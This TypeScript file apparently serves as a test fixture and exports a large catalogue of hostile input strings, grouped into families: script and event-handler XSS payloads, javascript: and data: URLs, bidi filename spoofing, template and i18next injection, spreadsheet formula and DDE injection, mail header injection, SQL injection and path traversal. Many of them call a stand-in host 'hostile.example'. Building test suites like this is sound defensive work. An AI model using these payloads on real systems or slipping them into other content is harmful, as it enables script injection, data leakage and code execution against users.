/** What somebody types who wants their words to be more than words, by families. Each would call `ran()`, ask `hostile.example`, or make an element with the attribute `hostile`. */

const HOST = 'hostile.example';
const each = (of: readonly string[], make: (one: string) => string): string[] => of.map(make);

const tags = [
  '<script hostile>ran()</script>',
  `<script hostile src=https://${HOST}/a.js></script>`,
  '<ScRiPt hostile>ran()</sCrIpT>',
  '<script hostile type=module>ran()</script>',
  '<script/hostile>ran()</script>',
  '</script><script hostile>ran()</script>',
  '<scr<script>ipt hostile>ran()</scr</script>ipt>',
  '<svg hostile><script>ran()</script></svg>',
  '<math hostile><mtext><script>ran()</script></mtext></math>',
  `<iframe hostile src="javascript:ran()"></iframe>`,
  `<iframe hostile srcdoc="<script>parent.ran()</script>"></iframe>`,
  `<iframe hostile src=//${HOST}/></iframe>`,
  `<object hostile data="javascript:ran()"></object>`,
  `<object hostile data=https://${HOST}/o></object>`,
  `<embed hostile src="javascript:ran()">`,
  `<link hostile rel=stylesheet href=https://${HOST}/a.css>`,
  `<style hostile>@import url(https://${HOST}/b.css);</style>`,
  '<style hostile>*{background:red}</style>',
  `<base hostile href=https://${HOST}/>`,
  `<meta hostile http-equiv=refresh content="0;url=https://${HOST}/">`,
  `<form hostile action=https://${HOST}/><button>Send</button></form>`,
  '<isindex hostile type=image src=x onerror=ran()>',
  '<template hostile><img src=x onerror=ran()></template>',
  '<noscript hostile><p title="</noscript><img src=x onerror=ran()>"></noscript>',
  '<title hostile></title><img src=x onerror=ran()>',
  '<textarea hostile></textarea><img src=x onerror=ran()>',
  '<xmp hostile></xmp><img src=x onerror=ran()>',
  '<plaintext hostile>',
  '<!--><img hostile src=x onerror=ran()>-->',
  '<![CDATA[><img hostile src=x onerror=ran()>]]>',
  '<?xml version="1.0"?><img hostile src=x onerror=ran()>',
  '<frameset hostile onload=ran()></frameset>',
  `<applet hostile code=x archive=https://${HOST}/x.jar></applet>`,
  `<img hostile src=https://${HOST}/pixel.png>`,
  `<img hostile srcset="https://${HOST}/a 1x">`,
  `<video hostile poster=https://${HOST}/p.png></video>`,
  `<a hostile href=https://${HOST}/ ping=https://${HOST}/ping>press</a>`,
  '<dialog hostile open>Your session is over: type your code</dialog>',
  '<h1 hostile>Big</h1><b hostile>bold</b>',
  '<custom-element hostile>x</custom-element>',
];

const events = [
  'onabort', 'onafterprint', 'onanimationend', 'onanimationstart', 'onauxclick', 'onbeforeinput', 'onbeforeprint',
  'onbeforetoggle', 'onbeforeunload', 'onblur', 'oncancel', 'oncanplay', 'onchange', 'onclick', 'onclose',
  'oncontentvisibilityautostatechange', 'oncopy', 'oncut', 'ondblclick', 'ondrag', 'ondrop', 'ondurationchange',
  'onended', 'onerror', 'onfocus', 'onfocusin', 'onformdata', 'onhashchange', 'oninput', 'oninvalid', 'onkeydown',
  'onload', 'onloadeddata', 'onloadstart', 'onmessage', 'onmouseenter', 'onmouseover', 'onpageshow', 'onpaste',
  'onpointerdown', 'onpointerover', 'onpopstate', 'onresize', 'onscroll', 'onscrollend', 'onsecuritypolicyviolation',
  'onselect', 'onslotchange', 'onsubmit', 'ontimeupdate', 'ontoggle', 'ontouchstart', 'ontransitionend', 'onunload',
  'onvolumechange', 'onwheel',
] as const; // prettier-ignore
const handlers = [
  ...each(events, (event) => `<div hostile ${event}=ran() tabindex=0 style=display:block>x</div>`),
  '<img hostile src=x onerror=ran()>',
  '<img hostile src=x onerror="ran()"//',
  '<img/hostile/src=x/onerror=ran()>',
  '<img hostile src=x onerror=&#114;an()>',
  '<svg hostile onload=ran()>',
  '<svg hostile><animate onbegin=ran() attributeName=x dur=1s>',
  '<svg hostile><set onbegin=ran() attributeName=x>',
  '<body hostile onload=ran()>',
  '<details hostile open ontoggle=ran()>',
  '<input hostile autofocus onfocus=ran()>',
  '<select hostile autofocus onfocus=ran()>',
  '<video hostile><source onerror=ran()></video>',
  '<audio hostile src=x onerror=ran()>',
  '<marquee hostile onstart=ran()>x</marquee>',
  '<style hostile>@keyframes x{}</style><p hostile style="animation-name:x" onanimationstart=ran()>x</p>',
];

const attributes = ['"', "'", '`', '">', "'>", '`>', '&quot;>', "' >", '\\">', '--!>'].flatMap((out) => [
  `${out}<img hostile src=x onerror=ran()>`,
  `${out} hostile onmouseover=ran() x=${out}`,
  `${out} hostile style=animation-name:x onanimationstart=ran() x=${out}`,
  `x${out};ran();//`,
]);

const schemes = [
  'javascript:ran()', 'JaVaScRiPt:ran()', 'javascript&colon;ran()', 'java&#10;script:ran()', 'javascript://%0aran()',
  'vbscript:ran()', 'data:text/html,<script>parent.ran()</script>', 'data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==',
  `https://${HOST}/?leak`, `http://${HOST}/`, `//${HOST}/`, `\\\\${HOST}\\share`, `https:${HOST}`, `ftp://${HOST}/`,
  'blob:https://x/1', 'file:///etc/passwd', 'view-source:javascript:ran()',
] as const; // prettier-ignore
const addresses = [
  ...schemes,
  ...each(schemes.slice(0, 9), (scheme) => `<a hostile href="${scheme}">press</a>`),
  ...each(schemes.slice(0, 9), (scheme) => `[press](${scheme})`),
  `![x](https://${HOST}/md.png)`,
  `[x]: https://${HOST}/ref`,
  `<https://${HOST}/auto>`,
  `www.${HOST}`,
];

/** The first part may not be written, and is refused: what changes the direction of words that follow. */
export const refusedBidi = ['\u202E', '\u202D', '\u202A', '\u202B', '\u2066', '\u2067', '\u2068', '\u2069\u2069', '\u202C'].map((mark) => `safe${mark}gnp.exe`); // prettier-ignore
const bidi = [
  'abc\u200Fdef', 'abc\u200Edef', '\u200Babc', 'a\u200Db', 'a\uFEFFb', '\u05D0\u05D1<img hostile src=x onerror=ran()>',
  '\u0627\u0644<script hostile>ran()</script>', 'a\u0301\u0302\u0303\u0304\u0305', '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}<b hostile>',
  '\u{E0041}\u{E0042}', '\uFF1Cscript hostile\uFF1Eran()\uFF1C/script\uFF1E', '\u2039img hostile\u203A', 'K\u212A\u017F',
] as const; // prettier-ignore

const templates = [
  '{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '{% debug %}', '[[7*7]]', '*{7*7}', '@(7*7)', '{7*7}',
  "{{constructor.constructor('ran()')()}}", "${ran()}", "{{$on.constructor('ran()')()}}", '{{=<% %>=}}<%ran()%>',
  "{{'a'.constructor.prototype.charAt=[].join;$eval('x=ran()')}}", '<div hostile v-html="ran()">', '<div hostile ng-app ng-init=ran()>',
  '<div hostile x-data x-init=ran()>', '<img hostile :src="ran()">', '`${ran()}`', '__proto__', 'constructor', 'toString',
] as const; // prettier-ignore

/** Of i18next: nesting and interpolation, by the keys and values that our own sentences have. */
const nesting = [
  '$t(app.common.sign_out)', '$t(errors.internal)', '$t(signin.common.back, {"count": 1})', '$t(entry.type.sleep)',
  '$t(a, {"interpolation": {"escapeValue": false}})', '$t($t(app.common.undo))', '{{name}}', '{{- name}}', '{{child}}',
  '{{setting}}', '{{count}}', '{{name, uppercase}}', '{{ name }}', '{{names}}', '{{__proto__}}', '{{constructor.name}}',
  '$t({{name}})', '{{$t(errors.internal)}}', '<0>x</0>', '<1 hostile>x</1>', '%s %d %n', '{0} {name}', '⟦0⟧ ⟦N1⟧', '__1__ [[F0]]',
] as const; // prettier-ignore

const formulas = [
  "=cmd|' /C calc'!A0", '=1+1', '+1+1', '-1+1', '@SUM(1+1)', `=HYPERLINK("https://${HOST}/","press")`,
  `=IMPORTXML("https://${HOST}/","//a")`, `=WEBSERVICE("https://${HOST}/")`, `=IMAGE("https://${HOST}/i")`, '"=1+1"', "'=1+1",
  ';=1+1', ',=1+1', '=DDE("cmd";"/C calc";"x")', '+cmd|x!A', '-cmd|x!A', '|=1+1', '%=1+1',
] as const; // prettier-ignore

const headers = [
  `x%0d%0aBcc: a@${HOST}`, `x\\r\\nBcc: a@${HOST}`, `Bcc: a@${HOST}`, `=?utf-8?q?x=0d=0aBcc:_a@${HOST}?=`,
  '=?utf-8?B?DQpCY2M6IGE=?=', `"x" <a@${HOST}>`, `<a@${HOST}>`, `a@${HOST}, b@${HOST}`, '.', '. QUIT', 'Content-Type: text/html',
  '--boundary--', `Reply-To: a@${HOST}`, 'X-Mailer: x', 'Subject: x',
] as const; // prettier-ignore

const encodings = [
  '&lt;script hostile&gt;ran()&lt;/script&gt;', '&#60;img hostile src=x onerror=ran()&#62;', '&#x3c;img hostile src=x onerror=ran()&#x3e;',
  '%3Cscript hostile%3Eran()%3C/script%3E', '%253Cscript%253Eran()%253C/script%253E', '\\u003cscript hostile\\u003eran()\\u003c/script\\u003e',
  '\\x3cscript hostile\\x3eran()\\x3c/script\\x3e', '+ADw-script hostile+AD4-ran()+ADw-/script+AD4-', '<<script hostile>ran()//<</script>',
  '&amp;lt;img hostile src=x onerror=ran()&amp;gt;', '&nbsp;&copy;&NewLine;', '\\"><img hostile src=x onerror=ran()>', '\\\'-ran()-\\\'',
  "';ran();'", '";ran();"', '*/ran()/*', '//--></script><img hostile src=x onerror=ran()>', '{"a":"</script><img hostile src=x onerror=ran()>"}',
  "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=ran() )//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg hostile/oNloAd=ran()//>",
  '<svg hostile><style><img src="</style><img src=x onerror=ran()>">', '<math hostile><mi xlink:href="javascript:ran()">x</mi></math>',
  '<form hostile id=a></form><button form=a formaction=javascript:ran()>X</button>', "'; drop table story; --", "' or '1'='1", '../../etc/passwd',
  '<p hostile style="background:url(//hostile.example/s)">', '<p hostile style=position:fixed;inset:0>', '%00<img hostile src=x onerror=ran()>',
] as const; // prettier-ignore

const families = { tags, handlers, attributes, addresses, bidi, templates, nesting, formulas, headers, encodings } as const; // prettier-ignore

/** Different ones, in an order in which each part of the list has something of each family. */
export const hostileStrings: readonly string[] = (() => {
  const left = Object.values(families).map((family) => [...family]);
  const all = new Set<string>();
  while (left.some((family) => family.length > 0))
    for (const family of left) {
      const next = family.shift();
      if (next !== undefined) all.add(next.normalize('NFC').trim());
    }
  return [...all];
})();
